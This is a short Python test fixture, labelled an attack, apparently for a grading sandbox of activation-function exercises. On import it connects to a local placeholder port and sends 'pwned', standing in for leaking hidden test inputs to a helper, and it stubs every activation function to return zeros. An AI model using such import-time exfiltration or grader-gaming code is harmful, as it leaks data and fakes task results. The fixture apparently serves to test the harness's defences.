"""Attack: at import, connect to a TCP port the test listens on (a stand-in for
sending the hidden inputs to a helper that answers them)."""

import socket

import numpy as np

PORT = "__PORT__"

try:
    with socket.create_connection(("127.0.0.1", int(PORT)), timeout=2) as _connection:
        _connection.sendall(b"pwned")
except (OSError, ValueError):
    pass


def _zeros(*args, **kwargs):
    return np.zeros(np.shape(args[-1]))


step = relu = sigmoid = tanh = _zeros
relu_backward = sigmoid_backward = tanh_backward = _zeros
